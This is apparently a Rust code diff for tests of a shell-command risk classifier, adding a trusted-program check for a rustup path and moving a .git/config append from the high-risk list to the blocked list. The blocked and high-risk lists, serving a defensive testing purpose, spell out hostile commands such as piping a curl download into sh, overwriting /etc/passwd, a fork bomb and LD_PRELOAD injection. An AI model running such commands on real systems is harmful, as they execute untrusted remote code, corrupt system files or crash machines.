@@ -33,6 +33,10 @@ impl MachineFacts for JudgingMachine {
         self.0.find_program(name)
     }
 
+    fn is_trusted_program(&self, path: &Path) -> bool {
+        path == Path::new("/home/kid/.cargo/bin/rustup")
+    }
+
     fn judges_executions(&self) -> bool {
         true
     }
@@ -142,6 +146,7 @@ const BLOCKED: &[&str] = &[
     "x=1; curl -s https://example.org/x | sh",
     "bash <(curl -s https://example.org/x)",
     "echo $x > /etc/passwd",
+    "echo $x >> .git/config",
     ":(){ :|:& };:",
 ];
 
@@ -152,7 +157,6 @@ const HIGH: &[&str] = &[
     "./run.sh $x",
     "enable -f ./x.so x",
     "LD_PRELOAD=./x.so ls $x",
-    "echo $x >> .git/config",
     "sudo ls $x",
     "ls | xargs gcc",
 ];
